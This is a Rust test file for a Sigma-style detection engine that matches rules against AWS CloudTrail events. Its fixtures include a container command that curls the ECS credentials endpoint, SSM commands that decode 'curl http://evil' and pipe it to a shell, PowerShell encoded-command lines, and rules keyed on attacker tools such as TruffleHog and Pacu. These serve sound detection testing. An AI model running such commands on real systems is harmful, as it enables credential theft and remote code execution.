//! Detection semantics on CloudTrail batches: values, modifiers, conditions.

use super::*;
use crate::error::DetectError;

fn iam(name: &str) -> Value {
    ct(name, "iam.amazonaws.com", json!({}))
}

#[test]
fn plain_values_are_case_insensitive_with_wildcards() {
    let events = [
        iam("CreateUser"),
        iam("createaccesskey"),
        iam("CreateLoginProfile"),
        iam("DeleteUser"),
    ];
    assert_eq!(
        ct_matches("s:\n  eventName: createuser\ncondition: s", &events),
        [true, false, false, false]
    );
    assert_eq!(
        ct_matches("s:\n  eventName: 'Create*'\ncondition: s", &events),
        [true, true, true, false]
    );
    assert_eq!(
        ct_matches("s:\n  eventName: '?reateUser'\ncondition: s", &events),
        [true, false, false, false]
    );
    assert_eq!(
        ct_matches("s:\n  eventName: 'C*Log*e'\ncondition: s", &events),
        [false, false, true, false]
    );
    // A list ORs.
    assert_eq!(
        ct_matches("s:\n  eventName: [DeleteUser, CreateUser]\n  eventSource: iam.amazonaws.com\ncondition: s", &events),
        [true, false, false, true]
    );
    let star = [
        ct("Get*", "s3.amazonaws.com", json!({})),
        ct("GetObject", "s3.amazonaws.com", json!({})),
    ];
    assert_eq!(
        ct_matches(
            r"s:\n  eventName: 'Get\*'\ncondition: s"
                .replace(r"\n", "\n")
                .as_str(),
            &star
        ),
        [true, false]
    );
}

#[test]
fn cased_matches_exactly() {
    let events = [iam("CreateUser"), iam("createuser")];
    assert_eq!(
        ct_matches("s:\n  eventName|cased: CreateUser\ncondition: s", &events),
        [true, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  eventName|cased|startswith: create\ncondition: s",
            &events
        ),
        [false, true]
    );
}

#[test]
fn string_modifiers_and_all() {
    let ua = |u: &str| {
        ct(
            "GetCallerIdentity",
            "sts.amazonaws.com",
            json!({"userAgent": u}),
        )
    };
    let events = [
        ua("TruffleHog v3.63"),
        ua("aws-cli/2.15 trufflehog"),
        ua("Boto3/1.34"),
        ua("S3 Browser 11.5"),
    ];
    assert_eq!(
        ct_matches(
            "s:\n  userAgent|contains: trufflehog\ncondition: s",
            &events
        ),
        [true, true, false, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  userAgent|startswith: [boto, 's3 ']\ncondition: s",
            &events
        ),
        [false, false, true, true]
    );
    assert_eq!(
        ct_matches("s:\n  userAgent|endswith: '.5'\ncondition: s", &events),
        [false, false, false, true]
    );
    assert_eq!(
        ct_matches(
            "s:\n  userAgent|contains|all: [aws-cli, hog]\ncondition: s",
            &events
        ),
        [false, true, false, false]
    );
    assert_eq!(
        ct_matches("s:\n  userAgent|neq: 'Boto3/1.34'\ncondition: s", &events),
        [true, true, false, true]
    );
}

#[test]
fn null_empty_and_exists() {
    let events = [
        ct("DeleteBucket", "s3.amazonaws.com", json!({})),
        ct(
            "DeleteBucket",
            "s3.amazonaws.com",
            json!({"errorCode": "AccessDenied"}),
        ),
        ct("DeleteBucket", "s3.amazonaws.com", json!({"errorCode": ""})),
    ];
    assert_eq!(
        ct_matches("s:\n  errorCode: null\ncondition: s", &events),
        [true, false, false]
    );
    assert_eq!(
        ct_matches("s:\n  errorCode: ''\ncondition: s", &events),
        [false, false, true]
    );
    assert_eq!(
        ct_matches("s:\n  errorCode|exists: true\ncondition: s", &events),
        [false, true, true]
    );
    assert_eq!(
        ct_matches("s:\n  errorCode|exists: false\ncondition: s", &events),
        [true, false, false]
    );
    // `contains: '*'`: any value at all.
    assert_eq!(
        ct_matches("s:\n  errorCode|contains: '*'\ncondition: s", &events),
        [false, true, true]
    );
    // A JSON path: absent when the document or the key is missing.
    let rp = [
        ct(
            "PutObject",
            "s3.amazonaws.com",
            json!({"requestParameters": {"bucketName": "b"}}),
        ),
        ct(
            "PutObject",
            "s3.amazonaws.com",
            json!({"requestParameters": {"key": "k"}}),
        ),
        ct("PutObject", "s3.amazonaws.com", json!({})),
    ];
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.bucketName: null\ncondition: s",
            &rp
        ),
        [false, true, true]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.bucketName|exists: true\ncondition: s",
            &rp
        ),
        [true, false, false]
    );
}

#[test]
fn json_paths_reach_through_arrays() {
    let task = |cmd: Value| {
        ct(
            "RegisterTaskDefinition",
            "ecs.amazonaws.com",
            json!({"requestParameters": {"family": "f", "containerDefinitions": [
                {"name": "a", "command": ["sh", "-c", "echo hi"]},
                {"name": "b", "command": cmd}
            ]}}),
        )
    };
    let events = [
        task(json!([
            "curl",
            "169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"
        ])),
        task(json!(["sleep", "10"])),
        task(json!("curl $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI")),
    ];
    let rule = "s:\n  eventSource: ecs.amazonaws.com\n  requestParameters.containerDefinitions.command|contains: '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'\ncondition: s";
    assert_eq!(ct_matches(rule, &events), [true, false, true]);
    // Every element is a value: `all` needs each needle in some element.
    let all =
        "s:\n  requestParameters.containerDefinitions.command|all: [sleep, '10']\ncondition: s";
    assert_eq!(ct_matches(all, &events), [false, true, false]);
    let name = "s:\n  requestParameters.containerDefinitions.name: b\ncondition: s";
    assert_eq!(ct_matches(name, &events), [true, true, true]);
}

#[test]
fn whole_json_documents_match_as_text() {
    let policy = |effect: &str| {
        let doc = format!(
            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"{effect}","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*"}}]}}"#
        );
        ct(
            "PutUserPolicy",
            "iam.amazonaws.com",
            json!({"requestParameters": {"userName": "bob", "policyDocument": doc}}),
        )
    };
    let events = [policy("Allow"), policy("Deny")];
    // The policy is a JSON string inside JSON: its quotes are escaped in the text.
    let rule = "s:\n  requestParameters|contains|all:\n    - '\"s3:GetObject\"'\n    - '\"Allow\"'\ncondition: s";
    assert_eq!(ct_matches(rule, &events), [true, false]);
    let path =
        "s:\n  requestParameters.policyDocument|contains: '\"Effect\":\"Deny\"'\ncondition: s";
    assert_eq!(ct_matches(path, &events), [false, true]);
    // Paths go on into JSON held in a string.
    let deep = "s:\n  requestParameters.policyDocument.Statement.Effect: deny\ncondition: s";
    assert_eq!(ct_matches(deep, &events), [false, true]);
}

#[test]
fn keywords_search_text_and_json_columns() {
    let events = [
        ct(
            "GetObject",
            "s3.amazonaws.com",
            json!({"requestParameters": {"key": "backup/passwords.kdbx"}}),
        ),
        ct(
            "ListBuckets",
            "s3.amazonaws.com",
            json!({"userAgent": "Pacu/1.5"}),
        ),
        ct("ListBuckets", "s3.amazonaws.com", json!({})),
        ct(
            "ConsoleLogin",
            "signin.amazonaws.com",
            json!({"additionalEventData": {"MFAUsed": "No", "note": "a \"quoted\" kdbx"}}),
        ),
    ];
    assert_eq!(
        ct_matches(
            "keywords:\n  - '.KDBX'\n  - pacu\ncondition: keywords",
            &events
        ),
        [true, true, false, false]
    );
    assert_eq!(
        ct_matches(
            "keywords:\n  '|all':\n    - kdbx\n    - '\"quoted\"'\ncondition: keywords",
            &events
        ),
        [false, false, false, true]
    );
    assert_eq!(
        ct_matches(
            "keywords:\n  - 'arn:aws:iam::111122223333:user/alice'\ncondition: keywords",
            &events
        ),
        [true, true, true, true]
    );
}

#[test]
fn condition_precedence_and_quantifiers() {
    let e = |name: &str, ua: &str, err: Option<&str>| {
        let mut extra = json!({"userAgent": ua});
        if let Some(code) = err {
            extra["errorCode"] = json!(code);
        }
        ct(name, "iam.amazonaws.com", extra)
    };
    let events = [
        e("CreateUser", "cli", None),
        e("CreateUser", "console", Some("AccessDenied")),
        e("DeleteUser", "cli", None),
        e("ListUsers", "console", None),
    ];
    let det = |cond: &str| {
        format!(
            "sel_create:\n  eventName: CreateUser\nsel_delete:\n  eventName: DeleteUser\nfilter_console:\n  userAgent: console\nfilter_denied:\n  errorCode: AccessDenied\ncondition: {cond}"
        )
    };
    // not > and > or.
    assert_eq!(
        ct_matches(
            &det("sel_create or sel_delete and not filter_console"),
            &events
        ),
        [true, true, true, false]
    );
    assert_eq!(
        ct_matches(
            &det("(sel_create or sel_delete) and not filter_console"),
            &events
        ),
        [true, false, true, false]
    );
    assert_eq!(
        ct_matches(&det("not sel_create and not sel_delete"), &events),
        [false, false, false, true]
    );
    assert_eq!(
        ct_matches(&det("1 of sel_* and not 1 of filter_*"), &events),
        [true, false, true, false]
    );
    assert_eq!(
        ct_matches(&det("all of filter_*"), &events),
        [false, true, false, false]
    );
    assert_eq!(
        ct_matches(&det("1 of them"), &events),
        [true, true, true, true]
    );
    assert_eq!(
        ct_matches(&det("all of them"), &events),
        [false, false, false, false]
    );
    assert_eq!(
        ct_matches(&det("not (sel_create or filter_console)"), &events),
        [false, false, true, false]
    );
    // A list of conditions ORs them.
    let list = "a:\n  eventName: CreateUser\nb:\n  eventName: ListUsers\ncondition:\n  - a\n  - b";
    assert_eq!(ct_matches(list, &events), [true, true, false, true]);
    // A list of maps ORs the maps.
    let alts =
        "s:\n  - eventName: DeleteUser\n  - userAgent: console\n    errorCode: null\ncondition: s";
    assert_eq!(ct_matches(alts, &events), [false, false, true, true]);
}

#[test]
fn numbers_compare_numerically() {
    let e = |n: Value| {
        ct(
            "ListObjects",
            "s3.amazonaws.com",
            json!({"requestParameters": {"maxKeys": n}}),
        )
    };
    let events = [
        e(json!(5)),
        e(json!(1000)),
        e(json!("250")),
        e(json!("many")),
    ];
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys|gt: 100\ncondition: s",
            &events
        ),
        [false, true, true, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys|gte: 250\ncondition: s",
            &events
        ),
        [false, true, true, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys|lt: 250\ncondition: s",
            &events
        ),
        [true, false, false, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys|lte: 250\ncondition: s",
            &events
        ),
        [true, false, true, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys: 1000.0\ncondition: s",
            &events
        ),
        [false, true, false, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys: many\ncondition: s",
            &events
        ),
        [false, false, false, true]
    );
}

#[test]
fn cidr_matches_v4_and_v6() {
    let ip = |a: &str| {
        ct(
            "ConsoleLogin",
            "signin.amazonaws.com",
            json!({"sourceIPAddress": a}),
        )
    };
    let events = [
        ip("10.20.30.40"),
        ip("192.0.2.7"),
        ip("2001:db8:0:1::9"),
        ip("2001:db9::1"),
        ip("AWS Internal"),
    ];
    let rule = "s:\n  sourceIPAddress|cidr:\n    - 10.0.0.0/8\n    - 2001:db8::/32\ncondition: s";
    assert_eq!(ct_matches(rule, &events), [true, false, true, false, false]);
    let not = "s:\n  sourceIPAddress|cidr: 10.0.0.0/8\ncondition: not s";
    assert_eq!(ct_matches(not, &events), [false, true, true, true, true]);
}

#[test]
fn encodings_and_windash() {
    let cmd = |c: &str| {
        ct(
            "SendCommand",
            "ssm.amazonaws.com",
            json!({"requestParameters": {"parameters": {"commands": [c]}}}),
        )
    };
    let b64 = crate::sigma::modifiers::base64("curl http://evil");
    let events = [
        cmd(&format!("echo {b64} | base64 -d | sh")),
        cmd(&format!(
            "echo {} | base64 -d | sh",
            crate::sigma::modifiers::base64("xcurl http://evil")
        )),
        cmd(&format!(
            "echo {} | base64 -d",
            crate::sigma::modifiers::base64("xycurl http://evil")
        )),
        cmd(&format!("echo {}", b64.to_lowercase())),
        cmd("powershell /EncodedCommand abc"),
        cmd("powershell \u{2014}encodedcommand abc"),
        cmd("powershell -EncodedCommand abc"),
    ];
    let plain = "s:\n  requestParameters.parameters.commands|base64|contains: 'curl http://evil'\ncondition: s";
    assert_eq!(
        ct_matches(plain, &events),
        [true, false, false, false, false, false, false]
    );
    let offset = "s:\n  requestParameters.parameters.commands|base64offset|contains: 'curl http://evil'\ncondition: s";
    // Found at each byte offset; encodings are case-sensitive.
    assert_eq!(
        ct_matches(offset, &events),
        [true, true, true, false, false, false, false]
    );
    let dash = "s:\n  requestParameters.parameters.commands|windash|contains: ' -encodedcommand '\ncondition: s";
    assert_eq!(
        ct_matches(dash, &events),
        [false, false, false, false, true, true, true]
    );
}

#[test]
fn regular_expressions_and_their_flags() {
    let arn = |a: &str| {
        ct(
            "GetObject",
            "s3.amazonaws.com",
            json!({"userIdentity": {"type": "AssumedRole", "arn": a}}),
        )
    };
    let events = [
        arn("arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abc"),
        arn("arn:aws:sts::111122223333:assumed-role/deployer/ci"),
        arn("ARN:AWS:STS::111122223333:ASSUMED-ROLE/AWS:EC2-INSTANCE/i-0abc"),
    ];
    assert_eq!(
        ct_matches(
            "s:\n  userIdentity.arn|re: '.+:assumed-role/aws:.+'\ncondition: s",
            &events
        ),
        [true, false, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  userIdentity.arn|re|i: ':assumed-role/aws:'\ncondition: s",
            &events
        ),
        [true, false, true]
    );
    let lines = [ct(
        "X",
        "s3.amazonaws.com",
        json!({"errorMessage": "first\nsecond line"}),
    )];
    assert_eq!(
        ct_matches("s:\n  errorMessage|re: '^second'\ncondition: s", &lines),
        [false]
    );
    assert_eq!(
        ct_matches("s:\n  errorMessage|re|m: '^second'\ncondition: s", &lines),
        [true]
    );
    assert_eq!(
        ct_matches(
            "s:\n  errorMessage|re: 'first.second'\ncondition: s",
            &lines
        ),
        [false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  errorMessage|re|s: 'first.second'\ncondition: s",
            &lines
        ),
        [true]
    );
}

#[test]
fn booleans_compare_as_text() {
    let e = |ro: bool, mfa: &str| {
        ct(
            "GetObject",
            "s3.amazonaws.com",
            json!({
                "readOnly": ro,
                "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::1:user/a",
                    "sessionContext": {"attributes": {"mfaAuthenticated": mfa}}}
            }),
        )
    };
    let events = [e(true, "true"), e(false, "false")];
    assert_eq!(
        ct_matches("s:\n  readOnly: false\ncondition: s", &events),
        [false, true]
    );
    assert_eq!(
        ct_matches("s:\n  readOnly: 'TRUE'\ncondition: s", &events),
        [true, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  userIdentity.sessionContext.attributes.mfaAuthenticated: false\ncondition: s",
            &events
        ),
        [false, true]
    );
}

#[test]
fn fieldref_compares_fields_of_the_same_row() {
    let e = |caller: &str, target: &str| {
        ct(
            "UpdateLoginProfile",
            "iam.amazonaws.com",
            json!({
                "userIdentity": {"type": "IAMUser", "arn": format!("arn:aws:iam::1:user/{caller}"), "userName": caller},
                "requestParameters": {"userName": target}
            }),
        )
    };
    let events = [e("alice", "alice"), e("alice", "bob"), e("Alice", "alice")];
    assert_eq!(
        ct_matches(
            "s:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: s",
            &events
        ),
        [true, false, true]
    );
    assert_eq!(
        ct_matches(
            "s:\n  userIdentity.userName|fieldref|cased: requestParameters.userName\ncondition: s",
            &events
        ),
        [true, false, false]
    );
    assert_eq!(
        ct_matches("s:\n  userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: not s", &events),
        [false, true, false]
    );
}

#[test]
fn absent_fields_never_have_values() {
    let text = ct_rule("s:\n  eventName: DeleteSAMLProvider\n  status: success\ncondition: s");
    let rule = compiled(&text);
    assert_eq!(rule.absent_fields(), ["status"]);
    let events = [ct(
        "DeleteSAMLProvider",
        "iam.amazonaws.com",
        json!({"status": "success"}),
    )];
    assert_eq!(
        eval(&rule, Table::CloudTrail, &batch(Table::CloudTrail, &events)),
        [false]
    );
    assert_eq!(
        ct_matches("s:\n  tlsDetails.tlsVersion: null\ncondition: s", &events),
        [true]
    );
}

#[test]
fn batch_fields_give_values_by_sigma_name_and_are_shared() {
    let events = [
        ct(
            "CreateUser",
            "iam.amazonaws.com",
            json!({"requestParameters": {"tags": [{"key": "a"}, {"key": "b"}]}}),
        ),
        ct(
            "CreateUser",
            "iam.amazonaws.com",
            json!({"requestParameters": {"tags": [{"key": "c"}]}}),
        ),
        ct("ListUsers", "iam.amazonaws.com", json!({})),
    ];
    let b = batch(Table::CloudTrail, &events);
    let mut f = BatchFields::new(Table::CloudTrail, &b);
    let r1 = compiled(&ct_rule(
        "s:\n  eventName: CreateUser\n  requestParameters.tags.key: c\ncondition: s",
    ));
    let r2 = compiled(&ct_rule(
        "s:\n  eventName: [CreateUser, ListUsers]\ncondition: s",
    ));
    let r3 = compiled(&ct_rule("s:\n  eventName: CreateUser\ncondition: not s"));
    let hits: Vec<Vec<bool>> = [&r1, &r2, &r3]
        .iter()
        .map(|r| {
            let a = r.eval(&mut f).unwrap();
            (0..a.len()).map(|i| a.value(i)).collect()
        })
        .collect();
    assert_eq!(
        hits,
        [
            vec![false, true, false],
            vec![true, true, true],
            vec![false, false, true]
        ]
    );
    assert_eq!(
        strings(f.strings("userIdentity.arn").unwrap().as_ref()),
        vec![Some("arn:aws:iam::111122223333:user/alice".to_owned()); 3]
    );
    assert_eq!(
        strings(f.strings("requestParameters.tags.key").unwrap().as_ref()),
        [Some(r#"["a","b"]"#.to_owned()), Some("c".to_owned()), None]
    );
    assert_eq!(
        strings(f.strings("readOnly").unwrap().as_ref())[0].as_deref(),
        Some("false")
    );
    assert_eq!(
        strings(f.strings("status").unwrap().as_ref()),
        [None, None, None]
    );
    assert!(matches!(f.strings("nope"), Err(DetectError::Eval(_))));
    // A rule of another table refuses the batch.
    let lambda = compiled(&rule_text("lambda", "s:\n  path: /x\ncondition: s"));
    assert!(matches!(lambda.eval(&mut f), Err(DetectError::Eval(_))));
}

#[test]
fn many_distinct_values_fall_back_from_interning() {
    // More distinct event names than interning keeps: results must not change.
    let events: Vec<Value> = (0..4200).map(|i| iam(&format!("Call{i}"))).collect();
    let hits = ct_matches("s:\n  eventName: [Call7, 'Call41*']\ncondition: s", &events);
    let expected: Vec<bool> = (0..4200)
        .map(|i| i == 7 || format!("Call{i}").starts_with("Call41"))
        .collect();
    assert_eq!(hits, expected);
}

#[test]
fn batches_read_back_as_string_views_evaluate_the_same() {
    use arrow::datatypes::{DataType, Field, Schema};
    let events = [
        ct(
            "CreateUser",
            "iam.amazonaws.com",
            json!({"requestParameters": {"userName": "x"}}),
        ),
        ct("ListUsers", "iam.amazonaws.com", json!({})),
    ];
    let b = batch(Table::CloudTrail, &events);
    // DataFusion reads Parquet strings back as views.
    let columns: Vec<arrow::array::ArrayRef> = b
        .columns()
        .iter()
        .map(|c| match c.data_type() {
            DataType::Utf8 => arrow::compute::cast(c, &DataType::Utf8View).unwrap(),
            _ => c.clone(),
        })
        .collect();
    let fields: Vec<Field> = b
        .schema()
        .fields()
        .iter()
        .zip(&columns)
        .map(|(f, c)| Field::new(f.name(), c.data_type().clone(), f.is_nullable()))
        .collect();
    let views = RecordBatch::try_new(Arc::new(Schema::new(fields)), columns).unwrap();
    let rule = compiled(&ct_rule(
        "s:\n  eventName: createuser\n  requestParameters.userName: X\ncondition: s",
    ));
    assert_eq!(eval(&rule, Table::CloudTrail, &b), [true, false]);
    assert_eq!(eval(&rule, Table::CloudTrail, &views), [true, false]);
    let empty = b.slice(0, 0);
    assert!(eval(&rule, Table::CloudTrail, &empty).is_empty());
}

#[test]
fn compiled_rules_can_be_shared_across_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<CompiledRule>();
    assert_send_sync::<crate::sigma::RuleDoc>();
}
